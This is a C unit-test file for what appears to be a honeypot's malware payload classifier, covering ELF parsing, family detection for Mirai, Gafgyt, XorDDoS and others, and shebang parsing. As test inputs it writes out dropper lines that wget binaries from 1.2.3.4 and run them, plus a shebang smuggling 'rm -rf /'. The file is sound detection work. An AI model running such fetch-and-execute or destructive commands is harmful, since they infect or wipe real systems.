/*
 * test_classify.c - unit tests for payload classification
 * (src/capture/classify.c, src/capture/elf.c, data/yara/<family>.yar).
 *
 * Every payload is a stand-in built here, byte by byte: ELF headers for the
 * architectures bots ship (ARM, MIPS both byte orders, x86_64, aarch64,
 * PowerPC, SPARC, SH4), text carrying each family's marker strings (alone
 * and behind an ELF header), a bins.sh-style dropper with and without a
 * shebang, a Perl ShellBot, an empty file, random bytes, a truncated ELF,
 * a PE stub.  Also: the shebang parser's forms (env with options, busybox,
 * CRLF, no newline), rule priority when several families match, site rules
 * from an extra directory, and a broken extra rule failing init cleanly;
 * libmagic's limits set on both cookies, and a 4 MiB file typed from its
 * first 1 MiB only.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>
#include <magic.h>

#include "capture/classify.h"
#include "capture/elf.h"

/* ---- stand-in builders ------------------------------------------------ */

static void put16(uint8_t *p, uint16_t v, int be)
{
    p[be ? 0 : 1] = (uint8_t)(v >> 8);
    p[be ? 1 : 0] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v, int be)
{
    for (int i = 0; i < 4; i++)
        p[be ? 3 - i : i] = (uint8_t)(v >> (8 * i));
}

/* A complete ELF header (52 or 64 bytes) of an executable for machine;
 * returns its length. */
static size_t mk_elf(uint8_t *out, int bits, int be, uint16_t machine)
{
    size_t hl = bits == 64 ? 64 : 52;

    memset(out, 0, hl);
    out[0] = 0x7f; out[1] = 'E'; out[2] = 'L'; out[3] = 'F';
    out[4] = bits == 64 ? 2 : 1;               /* EI_CLASS */
    out[5] = be ? 2 : 1;                       /* EI_DATA */
    out[6] = 1;                                /* EI_VERSION */
    put16(out + 16, 2, be);                    /* e_type ET_EXEC */
    put16(out + 18, machine, be);              /* e_machine */
    put32(out + 20, 1, be);                    /* e_version */
    if (bits == 64) {
        put16(out + 52, 64, be);               /* e_ehsize */
        put16(out + 54, 56, be);               /* e_phentsize */
    } else {
        if (machine == 40)
            put32(out + 36, 0x05000000, be);   /* e_flags: EABI5 */
        put16(out + 40, 52, be);               /* e_ehsize */
        put16(out + 42, 32, be);               /* e_phentsize */
    }
    return hl;
}

static void classify_str(const char *s, struct hp_classify *c)
{
    hp_classify_buf(s, strlen(s), c);
}

/* ---- fixtures --------------------------------------------------------- */

static int setup(void **state)
{
    char err[256];
    int rc = hp_classify_init(NULL, err, sizeof(err));
    if (rc != 0)
        fprintf(stderr, "hp_classify_init: %s\n", err);
    return rc;
}

static int teardown(void **state)
{
    hp_classify_shutdown();
    return 0;
}

/* ---- ELF -------------------------------------------------------------- */

struct elf_case {
    int bits, be;
    uint16_t machine;
    const char *arch, *magic_word;
};

static const struct elf_case elf_cases[] = {
    { 32, 0, 40, "arm", "ARM" },
    { 32, 1, 8, "mips", "MIPS" },
    { 32, 0, 8, "mips", "MIPS" },
    { 64, 0, 62, "x86_64", "x86-64" },
    { 64, 0, 183, "aarch64", "ARM aarch64" },
    { 32, 1, 20, "powerpc", "PowerPC" },
    { 32, 1, 2, "sparc", "SPARC" },
    { 32, 0, 42, "sh4", "Renesas SH" },
    { 64, 1, 8, "mips64", "MIPS" },
    { 32, 0, 3, "i386", "Intel 80386" },
    { 32, 1, 4, "m68k", "m68k" },
};

static void test_elf_archs(void **state)
{
    for (size_t i = 0; i < sizeof(elf_cases) / sizeof(elf_cases[0]); i++) {
        const struct elf_case *e = &elf_cases[i];
        uint8_t buf[128];
        struct hp_classify c;
        size_t n = mk_elf(buf, e->bits, e->be, e->machine);

        hp_classify_buf(buf, n, &c);
        assert_string_equal(c.kind, "elf");
        assert_string_equal(c.elf_arch, e->arch);
        assert_int_equal(c.elf_bits, e->bits);
        assert_string_equal(c.elf_endian, e->be ? "big" : "little");
        assert_non_null(strstr(c.type, "ELF"));
        if (!strstr(c.type, e->magic_word))
            fail_msg("type \"%s\" lacks \"%s\"", c.type, e->magic_word);
        assert_string_equal(c.family, "unknown");
        assert_string_equal(c.rule, "");
        assert_string_equal(c.interpreter, "");
    }
}

static void test_elf_parse_direct(void **state)
{
    uint8_t buf[128];
    struct hp_elf_info info;
    size_t n = mk_elf(buf, 32, 1, 8);

    assert_true(hp_elf_parse(buf, n, &info));
    assert_true(info.is_elf);
    assert_true(info.big_endian);
    assert_int_equal(info.machine, 8);
    assert_int_equal(info.type, 2);
    assert_string_equal(info.arch, "mips");
    /* one byte short of the 32-bit header */
    assert_false(hp_elf_parse(buf, n - 1, &info));
    assert_false(info.is_elf);
    assert_string_equal(info.arch, "");
    /* bad class / data bytes */
    buf[4] = 3;
    assert_false(hp_elf_parse(buf, n, &info));
    buf[4] = 1; buf[5] = 0;
    assert_false(hp_elf_parse(buf, n, &info));
    /* unknown machine */
    n = mk_elf(buf, 64, 0, 0x7777);
    assert_true(hp_elf_parse(buf, n, &info));
    assert_string_equal(info.arch, "unknown");
    assert_false(hp_elf_parse(NULL, 0, &info));
    assert_false(hp_elf_parse("MZ", 2, &info));
}

static void test_elf_truncated(void **state)
{
    uint8_t buf[128];
    struct hp_classify c;

    mk_elf(buf, 32, 0, 40);
    hp_classify_buf(buf, 10, &c);
    assert_string_not_equal(c.kind, "elf");
    assert_string_equal(c.elf_arch, "");
    assert_int_equal(c.elf_bits, 0);
    assert_string_equal(c.elf_endian, "");
    assert_string_equal(c.family, "unknown");
    for (size_t n = 0; n < 64; n++)             /* every prefix: no crash */
        hp_classify_buf(buf, n, &c);
}

/* ---- families --------------------------------------------------------- */

struct family_case {
    const char *text, *family, *rule;
};

static const struct family_case family_cases[] = {
    { "junk /bin/busybox MIRAI junk\n/dev/watchdog\0dvrHelper\n", "mirai", "hanipo_mirai" },
    { "x /dev/misc/watchdog y TSource Engine Query z POST /cdn-cgi/ w", "mirai", "hanipo_mirai" },
    { "PING\nGETLOCALIP\nHTTPFLOOD\nUDPRAW\nKILLATTK\n", "gafgyt", "hanipo_gafgyt" },
    { "[1;37m LOLNOGTFO [0m", "gafgyt", "hanipo_gafgyt" },
    { "#!/bin/sh\nsed -i '/\\/etc\\/cron.hourly\\/gcc.sh/d' /etc/crontab\n"
      "cp /lib/libudev.so /lib/libudev.so.6\n/var/run/gcc.pid\n", "xorddos", "hanipo_xorddos" },
    { "key=BB2FA36AAA9541F0\n", "xorddos", "hanipo_xorddos" },
    { "NOTICE %s :Kaiten wa goraku\nPAN <target> <port> <secs>\nKILLALL\n", "tsunami",
      "hanipo_tsunami" },
    { "#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $servidor='irc.example';\nmy @adms=(\"a\");\n"
      "print $sock \"NICK x\\n\";\nsub portscan {}\n", "shellbot", "hanipo_shellbot" },
    { "{\n \"pools\": [{\"url\": \"stratum+tcp://pool.example:3333\"}],\n"
      " \"donate-level\": 1,\n \"randomx\": {}\n}\n", "xmrig", "hanipo_xmrig" },
    { "Mozi.m [ss] [cpu] [hp] dht.transmissionbt.com router.bittorrent.com /usr/networks",
      "mozi", "hanipo_mozi" },
    { "WanaCrypt0r 2.0 tasksche.exe mssecsvc.exe msg/m_english.wnry", "wannacry",
      "hanipo_wannacry" },
};

static void test_family_text(void **state)
{
    for (size_t i = 0; i < sizeof(family_cases) / sizeof(family_cases[0]); i++) {
        const struct family_case *f = &family_cases[i];
        struct hp_classify c;
        /* sizeof-less length: some cases embed a NUL */
        size_t n = strlen(f->text);
        if (i == 0)
            n = sizeof("junk /bin/busybox MIRAI junk\n/dev/watchdog\0dvrHelper\n") - 1;
        hp_classify_buf(f->text, n, &c);
        if (strcmp(c.family, f->family) != 0)
            fail_msg("case %zu: family %s, expected %s", i, c.family, f->family);
        assert_string_equal(c.rule, f->rule);
    }
}

static void test_family_elf(void **state)
{
    static const char markers[] = "\0/bin/busybox MIRAI\0/dev/watchdog\0dvrHelper\0";
    uint8_t buf[256];
    struct hp_classify c;
    size_t n = mk_elf(buf, 32, 0, 40);

    memcpy(buf + n, markers, sizeof(markers));
    hp_classify_buf(buf, n + sizeof(markers), &c);
    assert_string_equal(c.kind, "elf");
    assert_string_equal(c.elf_arch, "arm");
    assert_string_equal(c.family, "mirai");
    assert_string_equal(c.rule, "hanipo_mirai");

    /* ELF gafgyt: three verbs suffice behind the magic */
    static const char verbs[] = "\0HTTPFLOOD\0UDPRAW\0KILLATTK\0";
    n = mk_elf(buf, 32, 1, 8);
    memcpy(buf + n, verbs, sizeof(verbs));
    hp_classify_buf(buf, n + sizeof(verbs), &c);
    assert_string_equal(c.elf_arch, "mips");
    assert_string_equal(c.family, "gafgyt");
}

/* A specific family inside a dropper script wins over shell-dropper. */
static void test_priority(void **state)
{
    struct hp_classify c;

    classify_str("#!/bin/sh\n"
                 "wget http://1.2.3.4/a; wget http://1.2.3.4/b; wget http://1.2.3.4/c\n"
                 "chmod +x a; ./a\n"
                 "echo /bin/busybox MIRAI\n", &c);
    assert_string_equal(c.family, "mirai");
    /* wannacry (90) over mirai (60) */
    classify_str("/bin/busybox MIRAI WanaCrypt0r WNcry@2ol7 tasksche.exe", &c);
    assert_string_equal(c.family, "wannacry");
    assert_string_equal(c.rule, "hanipo_wannacry");
}

/* ---- scripts ---------------------------------------------------------- */

static void dropper(char *out, size_t outlen, const char *shebang)
{
    static const char *const archs[] = { "arm", "mips", "x86" };
    size_t off = (size_t)snprintf(out, outlen, "%s", shebang);

    for (size_t i = 0; i < 3; i++)
        off += (size_t)snprintf(out + off, outlen - off,
                                "cd /tmp; wget http://1.2.3.4/x.%s; chmod 777 x.%s; ./x.%s\n",
                                archs[i], archs[i], archs[i]);
}

static void test_dropper(void **state)
{
    char buf[1024];
    struct hp_classify c;

    dropper(buf, sizeof(buf), "#!/bin/sh\n");
    classify_str(buf, &c);
    assert_string_equal(c.kind, "script");
    assert_string_equal(c.interpreter, "sh");
    assert_string_equal(c.family, "shell-dropper");
    assert_string_equal(c.rule, "hanipo_shell_dropper");
    assert_string_equal(c.elf_arch, "");

    /* no shebang: the interpreter is guessed */
    dropper(buf, sizeof(buf), "");
    classify_str(buf, &c);
    assert_string_equal(c.kind, "script");
    assert_string_equal(c.interpreter, "sh");
    assert_string_equal(c.family, "shell-dropper");

    /* the arch-list form: one fetcher, many architectures */
    classify_str("for a in arm arm7 mips mpsl x86 ppc m68k sh4 spc; do\n"
                 " busybox wget http://1.2.3.4/bins/k.$a -O k; chmod 777 k; ./k $a\ndone\n", &c);
    assert_string_equal(c.family, "shell-dropper");
    assert_string_equal(c.kind, "script");

    /* one download is not a dropper */
    classify_str("#!/bin/sh\nwget http://example.com/index.html\n", &c);
    assert_string_equal(c.family, "unknown");
    assert_string_equal(c.rule, "");
    assert_string_equal(c.kind, "script");
}

static void test_shellbot_script(void **state)
{
    struct hp_classify c;

    classify_str("#!/usr/bin/perl\n# ShellBot\nuse IO::Socket::INET;\n"
                 "my $servidor = '10.0.0.1';\nmy @adms = ('x');\n"
                 "sendraw(\"PRIVMSG #c :hi\");\n", &c);
    assert_string_equal(c.kind, "script");
    assert_string_equal(c.interpreter, "perl");
    assert_string_equal(c.family, "shellbot");
    assert_string_equal(c.rule, "hanipo_shellbot");
}

static void test_shebang(void **state)
{
    static const struct { const char *in, *want; } cases[] = {
        { "#!/bin/sh\n", "sh" },
        { "#!/bin/bash\r\necho\n", "bash" },
        { "#! /usr/bin/env perl -w\n", "perl" },
        { "#!/usr/bin/env -S VAR=1 python3 -u\n", "python3" },
        { "#!/bin/busybox sh\n", "sh" },
        { "#!/bin/busybox\n", "busybox" },
        { "#!/usr/bin/python3", "python3" },
        { "#!\tsh", "sh" },
        { "#!/bin/sh;rm -rf /\n", "sh" },
    };
    static const char *const bad[] = {
        "", "#", "#!", "#!\n", "#!   \n", "#!/usr/bin/env\n", "#!/usr/bin/env -i\n",
        "#!/bin/\n", "# !/bin/sh\n", "echo hi\n", "#!/bin/$(x)\n",
    };
    char out[32];

    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        assert_true(hp_classify_shebang(cases[i].in, strlen(cases[i].in), out, sizeof(out)));
        assert_string_equal(out, cases[i].want);
    }
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        strcpy(out, "x");
        assert_false(hp_classify_shebang(bad[i], strlen(bad[i]), out, sizeof(out)));
        assert_string_equal(out, "");
    }
    /* truncated to the output size */
    char small[4];
    assert_true(hp_classify_shebang("#!/bin/longname\n", 16, small, sizeof(small)));
    assert_string_equal(small, "lon");
    /* a line longer than the limit is not a shebang */
    char longline[600];
    memset(longline, 'a', sizeof(longline));
    memcpy(longline, "#!/", 3);
    assert_false(hp_classify_shebang(longline, sizeof(longline), out, sizeof(out)));
}

static void test_looks_shell(void **state)
{
    assert_true(hp_classify_looks_shell("cd /tmp\nwget x\nchmod +x y\n./y\n", 30));
    assert_false(hp_classify_looks_shell("Dear user,\nthis is a letter.\ncd is fine.\n", 41));
    assert_false(hp_classify_looks_shell("cd\0wget\0chmod\0", 14));
    assert_false(hp_classify_looks_shell("", 0));
}

/* ---- other kinds ------------------------------------------------------ */

static void test_empty_and_random(void **state)
{
    struct hp_classify c;
    uint8_t rnd[4096];
    uint32_t x = 0x12345678;

    hp_classify_buf("", 0, &c);
    assert_string_equal(c.kind, "empty");
    assert_string_equal(c.family, "unknown");
    assert_string_equal(c.rule, "");
    hp_classify_buf(NULL, 0, &c);
    assert_string_equal(c.kind, "empty");

    for (size_t i = 0; i < sizeof(rnd); i++) {  /* xorshift: fixed "random" bytes */
        x ^= x << 13; x ^= x >> 17; x ^= x << 5;
        rnd[i] = (uint8_t)x;
    }
    rnd[0] = 0x00;
    hp_classify_buf(rnd, sizeof(rnd), &c);
    assert_string_equal(c.kind, "data");
    assert_string_equal(c.family, "unknown");
    assert_string_equal(c.elf_arch, "");
    assert_string_equal(c.interpreter, "");
    assert_string_equal(c.mime, "application/octet-stream");
}

static void test_text_pe_archive(void **state)
{
    struct hp_classify c;
    uint8_t pe[256];

    classify_str("hello world, nothing to see here\n", &c);
    assert_string_equal(c.kind, "text");
    assert_string_equal(c.family, "unknown");
    assert_string_equal(c.interpreter, "");

    memset(pe, 0, sizeof(pe));
    pe[0] = 'M'; pe[1] = 'Z';
    pe[0x3c] = 0x80;
    memcpy(pe + 0x80, "PE\0\0", 4);
    hp_classify_buf(pe, sizeof(pe), &c);
    assert_string_equal(c.kind, "pe");
    /* e_lfanew pointing far out of the buffer */
    pe[0x3c] = 0xff; pe[0x3d] = 0xff; pe[0x3e] = 0xff; pe[0x3f] = 0xff;
    hp_classify_buf(pe, sizeof(pe), &c);
    assert_string_not_equal(c.kind, "pe");

    /* an empty gzip stream */
    static const uint8_t gz[] = { 0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03,
                                  0x03, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00 };
    hp_classify_buf(gz, sizeof(gz), &c);
    assert_string_equal(c.kind, "archive");
    assert_non_null(strstr(c.type, "gzip"));
}

/* ---- init with site rules --------------------------------------------- */

static void write_file(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    assert_int_equal(fputs(text, f) >= 0, 1);
    assert_int_equal(fclose(f), 0);
}

static void test_extra_dir(void **state)
{
    char dir[] = "/tmp/hp_classify_XXXXXX", path[256], err[256];
    struct hp_classify c;

    assert_non_null(mkdtemp(dir));
    snprintf(path, sizeof(path), "%s/site.yar", dir);
    write_file(path, "rule site_marker { meta: family = \"sitefam\" priority = 100\n"
                     "strings: $a = \"HANIPO-SITE-MARKER\" condition: $a }\n"
                     "rule site_nometa { strings: $a = \"HANIPO-NOMETA\" condition: $a }\n");
    snprintf(path, sizeof(path), "%s/ignored.txt", dir);
    write_file(path, "this is not a rule file {{{");

    hp_classify_shutdown();
    assert_int_equal(hp_classify_init(dir, err, sizeof(err)), 0);
    classify_str("x HANIPO-SITE-MARKER /bin/busybox MIRAI", &c);
    assert_string_equal(c.family, "sitefam");
    assert_string_equal(c.rule, "site_marker");
    classify_str("HANIPO-NOMETA", &c);               /* no meta: the rule's name */
    assert_string_equal(c.family, "site_nometa");
    classify_str("/bin/busybox MIRAI", &c);          /* built-ins still there */
    assert_string_equal(c.family, "mirai");

    /* a broken site rule fails init with a message naming the file */
    snprintf(path, sizeof(path), "%s/broken.yar", dir);
    write_file(path, "rule broken { condition: $nope }\n");
    hp_classify_shutdown();
    err[0] = '\0';
    assert_int_equal(hp_classify_init(dir, err, sizeof(err)), -1);
    assert_non_null(strstr(err, "broken.yar"));
    /* not initialised: still classifies with the pure parsers, no family */
    classify_str("/bin/busybox MIRAI /dev/watchdog dvrHelper", &c);
    assert_string_equal(c.family, "unknown");
    assert_string_equal(c.kind, "text");
    assert_string_equal(c.type, "");

    /* a missing directory */
    assert_int_equal(hp_classify_init("/nonexistent/hp-yara", err, sizeof(err)), -1);
    assert_non_null(strstr(err, "/nonexistent/hp-yara"));

    unlink(path);
    snprintf(path, sizeof(path), "%s/site.yar", dir);
    unlink(path);
    snprintf(path, sizeof(path), "%s/ignored.txt", dir);
    unlink(path);
    rmdir(dir);
    assert_int_equal(hp_classify_init(NULL, err, sizeof(err)), 0);   /* for teardown */
}

/* Every file libmagic sees is an attacker's: its limits are ours, not the
 * library's defaults (which change between versions). */
static void test_magic_bounds(void **state)
{
    static const struct { int param; size_t max; } want[] = {
        { MAGIC_PARAM_INDIR_MAX, 20 }, { MAGIC_PARAM_NAME_MAX, 40 },
        { MAGIC_PARAM_ELF_PHNUM_MAX, 128 }, { MAGIC_PARAM_ELF_SHNUM_MAX, 1024 },
        { MAGIC_PARAM_ELF_NOTES_MAX, 64 }, { MAGIC_PARAM_REGEX_MAX, 4096 },
        { MAGIC_PARAM_BYTES_MAX, 1024 * 1024 },
    };
    for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
        size_t v = 0;
        assert_int_equal(hp_classify_magic_param(want[i].param, &v), 0);
        assert_int_equal(v, want[i].max);
    }

    /* 4 MiB: a shell script for the first MiB, binary after it.  libmagic
     * (and so the type) only sees the script. */
    size_t n = 4u << 20, cut = 1u << 20;
    uint8_t *p = malloc(n);
    assert_non_null(p);
    static const char line[] = "echo hello world > /tmp/x\n";
    memcpy(p, "#!/bin/sh\n", 10);
    for (size_t i = 10; i < cut; i++)
        p[i] = (uint8_t)line[(i - 10) % (sizeof(line) - 1)];
    memset(p + cut, 0, n - cut);
    struct hp_classify c;
    hp_classify_buf(p, n, &c);
    assert_string_equal(c.mime, "text/x-shellscript");
    assert_non_null(strstr(c.type, "shell script"));
    free(p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_elf_archs),
        cmocka_unit_test(test_elf_parse_direct),
        cmocka_unit_test(test_elf_truncated),
        cmocka_unit_test(test_family_text),
        cmocka_unit_test(test_family_elf),
        cmocka_unit_test(test_priority),
        cmocka_unit_test(test_dropper),
        cmocka_unit_test(test_shellbot_script),
        cmocka_unit_test(test_shebang),
        cmocka_unit_test(test_looks_shell),
        cmocka_unit_test(test_empty_and_random),
        cmocka_unit_test(test_text_pe_archive),
        cmocka_unit_test(test_extra_dir),
        cmocka_unit_test(test_magic_bounds),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
